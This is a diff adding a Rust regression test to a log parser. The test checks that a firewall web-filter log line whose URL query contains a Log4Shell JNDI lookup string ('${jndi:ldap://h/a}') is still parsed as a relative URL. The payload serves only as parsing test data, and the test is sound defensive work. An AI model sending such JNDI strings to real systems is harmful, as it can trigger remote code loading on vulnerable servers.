@@ -388,3 +388,22 @@ proptest! {
         }
     }
 }
+
+/// Regression: a relative URL with `://` in its query was read as absolute, its "scheme" being
+/// `/?x=${jndi:ldap`.
+#[test]
+fn relative_url_with_a_url_in_its_query_stays_relative() {
+    let line = r#"date=2021-12-10 time=10:00:00 logid="0316013056" type="utm" subtype="webfilter" eventtype="ftgd_allow" level="notice" vd="root" eventtime=1639130400 srcip=203.0.113.7 srcport=51000 dstip=10.0.0.5 dstport=80 proto=6 hostname="shop.example.com" action="passthrough" url="/?x=${jndi:ldap://h/a}" method="domain" cat=52 catdesc="Information Technology""#;
+    let mut out = crate::Output::default();
+    super::normalize(
+        &crate::Record::new("t", line),
+        &crate::Context::default(),
+        &mut out,
+    );
+    let event = &out.events[0];
+    let url = event.http_request.as_ref().unwrap().url.as_ref().unwrap();
+    assert_eq!(url.scheme, None);
+    assert_eq!(url.hostname.as_deref(), Some("shop.example.com"));
+    assert_eq!(url.path.as_deref(), Some("/"));
+    assert_eq!(url.query_string.as_deref(), Some("x=${jndi:ldap://h/a}"));
+}
